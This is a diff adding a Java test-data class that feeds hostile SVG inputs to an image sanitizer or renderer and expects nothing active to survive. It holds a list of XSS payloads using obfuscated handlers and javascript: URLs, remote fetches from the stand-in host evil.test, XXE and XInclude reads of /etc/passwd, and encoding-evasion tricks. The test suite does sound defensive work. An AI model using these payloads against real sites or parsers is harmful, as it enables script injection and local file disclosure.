@@ -1,0 +1,128 @@
+package dev.darkroom.hostile.table;
+
+import static dev.darkroom.hostile.file.SvgText.ROOT;
+import static dev.darkroom.hostile.file.SvgText.drawing;
+import static dev.darkroom.hostile.file.SvgText.utf8;
+import static dev.darkroom.hostile.file.SvgText.withSubset;
+import static dev.darkroom.hostile.table.Expected.disallowed;
+import static dev.darkroom.hostile.table.Expected.malformed;
+import static dev.darkroom.hostile.table.Expected.renditions;
+import static dev.darkroom.hostile.table.Expected.unrecognized;
+import static dev.darkroom.hostile.table.Expected.unsupported;
+
+import dev.darkroom.core.Format;
+import dev.darkroom.hostile.file.ByteWriter;
+import dev.darkroom.hostile.file.Innocent;
+import java.nio.charset.Charset;
+import java.nio.charset.StandardCharsets;
+import java.util.Base64;
+import java.util.List;
+import java.util.function.Supplier;
+import java.util.stream.Stream;
+
+/** SVG that would read, fetch or run something. Nothing active may come out: see {@link SafeRenditions}. */
+final class SvgRows {
+    private static final String[] TRICKS = {
+        "<script>alert(1)</script>",
+        "<script xlink:href='http://evil.test/x.js'/>",
+        "<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>",
+        "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
+        "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
+        "<foreignobject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/></foreignobject>",
+        "<rect width='9' height='9' onclick='alert(1)'/>",
+        "<rect width='9' height='9' ONLOAD='alert(1)'/>",
+        "<rect width='9' height='9' oNmOuSeOvEr='alert(1)'/>",
+        "<rect width='9' height='9' onload='&#97;lert(1)'/>",
+        "<image href='http://evil.test/x.png' onerror='&#x61;&#x6c;ert(1)' width='9' height='9'/>",
+        "<a href='javascript:alert(1)'><rect width='9' height='9'/></a>",
+        "<a xlink:href='java&#9;script:alert(1)'><rect width='9' height='9'/></a>",
+        "<a xlink:href='&#10;java&#13;scr&#x9;ipt:alert(1)'><rect width='9' height='9'/></a>",
+        "<a xlink:href='&#106;avascript:alert(1)'/>",
+        "<a href='JaVaScRiPt:alert(1)'><rect width='9' height='9'/></a>",
+        "<style>@import 'http://evil.test/x.css';</style>",
+        "<style>@\\69mport 'http://evil.test/x.css';</style>",
+        "<style>rect{fill:u\\72l(http://evil.test/x)}</style><rect width='9' height='9'/>",
+        "<style>rect{fill:\\75\\000072 l('http://evil.test/x')}</style><rect width='9' height='9'/>",
+        "<style>rect{background:url(data:image/svg+xml,%3Csvg onload=alert(1)%3E)}</style><rect width='9' height='9'/>",
+        "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
+        "<rect width='9' height='9' style='fill:url(http://evil.test/x)'/>",
+        "<rect width='9' height='9' style='behavior:url(#default);-moz-binding:url(http://evil.test/x)'/>",
+        "<rect width='9' height='9' style='width:expression(alert(1))'/>",
+        "<rect width='9' height='9' fill='url(http://evil.test/x#y)'/>",
+        "<rect width='9' height='9' filter='url(//evil.test/x#y)'/>",
+        "<filter id='f'><feImage href='http://evil.test/x'/></filter><rect width='9' height='9' filter='url(#f)'/>",
+        "<use href='http://evil.test/x.svg#a'/>",
+        "<use href='data:image/svg+xml,&lt;svg id=&quot;x&quot; onload=&quot;alert(1)&quot;/&gt;#x'/>",
+        "<image href='file:///etc/passwd' width='9' height='9'/>",
+        "<image href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+' width='9' height='9'/>",
+        "<image href='data:text/html,&lt;script>alert(1)&lt;/script>' width='9' height='9'/>",
+        "<a id='a'><animate attributeName='href' values='javascript:alert(1)'/><rect width='9' height='9'/></a>",
+        "<animate href='#a' attributeName='xlink:href' to='javascript:alert(1)'/>",
+        "<set attributeName='onmouseover' to='alert(1)'/>",
+        "<handler type='text/javascript' ev:event='load' xmlns:ev='http://www.w3.org/2001/xml-events'>alert(1)</handler>",
+        "<metadata><x onload='alert(1)'/></metadata>",
+        "<title><script>alert(1)</script></title>",
+        "<text><tspan onfocus='alert(1)'>x</tspan></text>",
+        "<?xml-stylesheet href='http://evil.test/x.xsl'?><rect width='9' height='9'/>",
+        "<!--><script>alert(1)</script>--><rect width='9' height='9'/>",
+        "<rect width='9' height='9' xml:base='http://evil.test/' fill='url(#x)'/>",
+    };
+
+    private static final String[] MARKS = {"alert", "evil.test", "passwd", "root:", "script"};
+
+    private SvgRows() {}
+
+    static List<Row> all() {
+        return List.of(
+                rows("scripts, handlers, addresses and animations", renditions().or(malformed()).without(MARKS), () ->
+                        Stream.of(TRICKS).map(trick -> drawing(trick))),
+                row("XXE of a file", malformed(), () ->
+                        withSubset("<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<text y='9'>&x;</text>")),
+                row("XXE of an address", malformed(), () ->
+                        withSubset("<!ENTITY x SYSTEM 'http://evil.test/'>", "<text y='9'>&x;</text>")),
+                row("XXE through a parameter entity", malformed().or(renditions()).without(MARKS), () ->
+                        withSubset("<!ENTITY % x SYSTEM 'http://evil.test/x.dtd'>%x;", "<rect width='9' height='9'/>")),
+                row("external document type", renditions().without(MARKS), () -> utf8(
+                        "<?xml version='1.0'?><!DOCTYPE svg SYSTEM 'http://evil.test/x.dtd'>" + ROOT + "</svg>")),
+                row("XInclude", renditions().or(malformed()).without(MARKS), () -> drawing(
+                        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>")),
+                row("UTF-16", renditions().or(malformed()).without(MARKS), () ->
+                        encoded(StandardCharsets.UTF_16)),
+                row("UTF-16 that says it is UTF-8", renditions().or(malformed()).without(MARKS), () ->
+                        encoded(StandardCharsets.UTF_16LE)),
+                row("UTF-7", unsupported("UTF-7"), () -> utf8("<?xml version='1.0' encoding='UTF-7'?>"
+                        + ROOT + "+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>")),
+                row("an encoding that nobody has", unsupported("EVIL"), () ->
+                        utf8("<?xml version='1.0' encoding='EVIL'?>" + ROOT + "</svg>")),
+                row("overlong UTF-8", malformed(), () -> ByteWriter.join(
+                        utf8(ROOT), new byte[] {(byte) 0xC0, (byte) 0xBC, 's', '>'}, utf8("</svg>"))),
+                row("zero bytes", malformed().or(unrecognized()), () ->
+                        ByteWriter.join(utf8(ROOT), new byte[9], utf8("</svg>"))),
+                row("HTML behind the drawing", malformed(), () ->
+                        ByteWriter.join(Innocent.svg(), utf8("<script>alert(1)</script>"))),
+                row("HTML that begins as HTML", disallowed(Format.HTML), () -> utf8("<html>" + ROOT + "</svg></html>")),
+                row("a JPEG inside, with GPS in it", renditions().without("LEAK"), () -> drawing(
+                        "<image width='9' height='9' href='data:image/jpeg;base64,"
+                                + Base64.getEncoder().encodeToString(MetadataRows.jpeg())
+                                + "'/>")),
+                rows("pictures inside that are none", renditions().or(malformed()), () -> Stream.of(
+                                "iVBORw0KGgo=", "/9j/", "R0lGODlh", "UklGRv///39XRUJQ", "AAAA", "====", "")
+                        .map(data -> drawing(
+                                "<image width='9' height='9' href='data:image/png;base64," + data + "'/>"))),
+                rows("SVG truncated at every byte", unrecognized().or(malformed()), () ->
+                        Row.beginnings(Innocent.svg())));
+    }
+
+    private static Row row(String name, Expected expected, Supplier<byte[]> input) {
+        return Row.row(name, expected, input).acceptingSvg();
+    }
+
+    private static Row rows(String name, Expected expected, Supplier<Stream<byte[]>> inputs) {
+        return Row.rows(name, expected, inputs).acceptingSvg();
+    }
+
+    private static byte[] encoded(Charset charset) {
+        return ("<?xml version='1.0' encoding='UTF-8'?>" + ROOT + "<script>alert(1)</script><rect width='9' height='9'/></svg>")
+                .getBytes(charset);
+    }
+}
